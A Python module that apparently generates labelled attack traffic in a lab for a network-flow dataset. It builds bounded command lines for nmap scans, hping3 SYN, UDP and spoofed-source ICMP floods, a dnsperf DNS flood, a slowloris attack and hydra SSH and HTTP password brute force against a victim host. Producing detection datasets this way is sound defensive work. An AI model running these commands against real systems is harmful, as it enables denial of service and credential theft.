"""Attack phases: one registry entry per phase, with its class label and its command lines.

Each phase runs from its own attacker namespace (the ICMP flood from a block of addresses on
it, as a botnet would), against the victim. A builder returns the commands of the phase from
its own seeded RNG and `rounds` (1 at ci scale, 5 at full scale); the runner executes them in
turn, each under `timeout`, until they are done or the phase budget is spent. Every command
is bounded by a count (ports, packets, queries, passwords, connections) as well as by time.
Paths are relative to the run's work folder (inputs/ holds the word lists and query file).
"""

from collections.abc import Callable
from dataclasses import dataclass

NMAP = ["nmap", "-n", "-Pn", "--max-retries", "1"]
# NSE's vuln category minus scripts that flood (dos), talk to the whole segment (broadcast)
# or need the internet (external): every probe stays on the lab's victim.
VULN_SCRIPTS = "vuln and not dos and not broadcast and not external"


@dataclass
class Command:
    argv: list
    timeout_s: float
    expect: tuple = (0,)      # exit codes that mean the tool did its job


@dataclass(frozen=True)
class PhaseSpec:
    label: str                # technique id of the knowledge graph (packetclip/data/missions.yaml)
    tool: str
    build: Callable
    botnet: int = 0           # extra source addresses per round (ICMP flood)


def port_scan(rng, rounds, ctx, addrs):
    cmds = []
    for r in range(rounds):
        width = rng.randint(800, 1200)
        lo = 1 if r == 0 else rng.randint(1025, 65535 - width)
        kind = "-sS" if r == 0 or rng.random() < 0.7 else "-sT"
        cmds.append(Command(NMAP + [kind, "--max-rate", str(rng.randint(400, 1500)), "-p", f"{lo}-{lo + width - 1}",
                                    ctx["victim"]], 60))
    return cmds


# OS and version scans probe ports the attacker already knows, as after a port scan: nmap -O
# alone would first scan 1,000 ports, and most of the phase's flows would be plain port-scan
# flows labelled "os_scan" only for when they happened. OS detection needs one open and one
# closed TCP port.
def os_scan(rng, rounds, ctx, addrs):
    open_ = list(ctx["ports"].values())
    cmds = []
    for _ in range(4 * rounds):
        ports = sorted(rng.sample([p for p in open_ if p != 53], rng.randint(1, 3)) + [rng.randint(1024, 65535)])
        cmds.append(Command(NMAP + ["-O", "--max-os-tries", "1", *(["--osscan-guess"] if rng.random() < 0.5 else []),
                                    "-p", ",".join(map(str, ports)), ctx["victim"]], 30))
    return cmds


def version_scan(rng, rounds, ctx, addrs):
    open_ = list(ctx["ports"].values())
    return [Command(NMAP + ["-sV", "--version-intensity", str(rng.choice([5, 7, 9])), "-p",
                            ",".join(map(str, sorted(rng.sample(open_, rng.randint(1, len(open_)))))), ctx["victim"]], 40)
            for _ in range(3 * rounds)]


def vulnerability_scan(rng, rounds, ctx, addrs):
    ports = ",".join(map(str, ctx["ports"].values()))
    return [Command(NMAP + ["-sV", "--script", VULN_SCRIPTS, "--script-timeout", "20s", "-p", ports,
                            ctx["victim"]], 70) for _ in range(max(1, rounds // 2))]


def ping_sweep(rng, rounds, ctx, addrs):
    # nmap's own host discovery, not ARP ping: ARP requests are not IP, so a flow meter would
    # see nothing of an ARP sweep (it is what nmap does on a local segment by default).
    # nmap's default probes (echo, SYN 443, ACK 80, timestamp) wait ~19 s on a /24's dead
    # addresses, echo alone ~4 s: the short ci run sweeps with echo requests only
    probes = [[], ["-PE"], ["-PE", "-PP"], ["-PS22,80,443", "-PE"]] if rounds > 1 else [["-PE"], ["-PE", "-PP"]]
    return [Command(["nmap", "-n", "-sn", "-T4", "--disable-arp-ping", *rng.choice(probes), "--max-retries", "1",
                     ctx["subnet"]], 30) for _ in range(2 * rounds)]


def syn_flood(rng, rounds, ctx, addrs):
    port = str(rng.choice([ctx["ports"]["http"], ctx["ports"]["ssh"], ctx["ports"]["mqtt"]]))
    return [Command(["hping3", "-q", "-S", "-p", port, "-i", f"u{rng.randint(400, 1500)}", "-c", str(rng.randint(1500, 2500)),
                     ctx["victim"]], 30) for _ in range(min(rounds, 3))]


def udp_flood(rng, rounds, ctx, addrs):
    return [Command(["hping3", "-q", "--udp", "-p", str(rng.randint(1024, 65535)), "-d", str(rng.choice([32, 64, 128, 512])),
                     "-i", f"u{rng.randint(400, 1500)}", "-c", str(rng.randint(1500, 2500)), ctx["victim"]], 30)
            for _ in range(min(rounds, 3))]


def icmp_flood(rng, rounds, ctx, addrs):
    # one burst per source address of the botnet block (an ICMP flow is an address pair)
    return [Command(["hping3", "-q", "--icmp", "-a", a, "-d", str(rng.choice([56, 120, 512, 1000])), "-i", f"u{rng.randint(200, 800)}",
                     "-c", str(rng.randint(800, 1500)), ctx["victim"]], 20) for a in addrs[1:]]


def dns_flood(rng, rounds, ctx, addrs):
    return [Command(["dnsperf", "-s", ctx["victim"], "-d", "inputs/dns-queries.txt", "-c", str(rng.randint(20, 50)),
                     "-Q", str(rng.randint(800, 2000)), "-l", str(rng.randint(3, 6)), "-t", "2"], 20)
            for _ in range(2 * rounds)]


def slowloris(rng, rounds, ctx, addrs):
    conns = rng.randint(150, 250) * (2 if rounds > 1 else 1)
    secs = 6 if rounds == 1 else 50
    return [Command(["slowhttptest", "-H", "-c", str(conns), "-r", str(rng.randint(40, 80)), "-i", str(rng.randint(5, 15)),
                     "-s", "8192", "-t", "GET", "-x", "24", "-p", "3", "-l", str(secs),
                     "-u", f"http://{ctx['victim']}/"], secs + 15)]


def ssh_brute_force(rng, rounds, ctx, addrs):
    return [Command(["hydra", "-l", ctx["secrets"]["ssh_user"], "-P", "inputs/ssh-words.txt", "-t", str(rng.choice([8, 16] if rounds > 1 else [4, 8])),
                     "-I", "-w", "5", f"ssh://{ctx['victim']}"], 70, (0, 255))]


def http_brute_force(rng, rounds, ctx, addrs):
    return [Command(["hydra", "-l", ctx["secrets"]["http_user"], "-P", "inputs/http-words.txt", "-t", str(rng.choice([4, 8])),
                     "-I", "-w", "5", f"http-get://{ctx['victim']}/admin/"], 70, (0, 255))]


PHASES = {
    "port_scan": PhaseSpec("port_scan", "nmap", port_scan),
    "os_scan": PhaseSpec("os_scan", "nmap", os_scan),
    "version_scan": PhaseSpec("version_scan", "nmap", version_scan),
    "vulnerability_scan": PhaseSpec("vulnerability_scan", "nmap", vulnerability_scan),
    "ping_sweep": PhaseSpec("ping_sweep", "nmap", ping_sweep),
    "syn_flood": PhaseSpec("syn_flood", "hping3", syn_flood),
    "udp_flood": PhaseSpec("udp_flood", "hping3", udp_flood),
    "icmp_flood": PhaseSpec("icmp_flood", "hping3", icmp_flood, botnet=12),
    "dns_flood": PhaseSpec("dns_flood", "dnsperf", dns_flood),
    "slowloris": PhaseSpec("slowloris", "slowhttptest", slowloris),
    "ssh_brute_force": PhaseSpec("ssh_brute_force", "hydra", ssh_brute_force),
    "http_brute_force": PhaseSpec("http_brute_force", "hydra", http_brute_force),
}
